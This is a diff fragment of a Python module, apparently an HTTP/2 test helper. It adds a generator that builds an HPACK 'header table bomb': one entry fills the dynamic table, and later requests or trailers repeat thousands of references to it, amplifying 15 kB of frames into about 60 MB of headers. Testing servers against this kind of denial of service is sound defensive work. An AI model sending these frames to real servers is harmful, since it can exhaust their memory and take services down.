@@ -42,6 +42,20 @@ def indexed_header(name, value):
     return b"\x40" + header(name, value)[1:]
 
 
+FIRST_OF_TABLE = bytes([0x80 | 62])  # the newest entry of HPACK's dynamic table, as a reference
+
+
+def header_table_bomb(path, requests, references=15_000, value="y" * 4000, in_trailers=False):
+    """Frames: one entry that fills the table, and requests, or their trailers, of references to it: 60 MB of headers in 15 kB."""
+    head = request_headers(path)
+    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, head + indexed_header("x-bomb", value))
+    for stream in range(3, 3 + 2 * requests, 2):
+        if in_trailers:
+            yield frame(HEADERS, END_HEADERS, stream, head) + frame(HEADERS, END_HEADERS | END_STREAM, stream, FIRST_OF_TABLE * references)
+        else:
+            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head + FIRST_OF_TABLE * references)
+
+
 def request_headers(path):
     return b"".join(header(name, value) for name, value in (
         (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"), ("te", "trailers"),
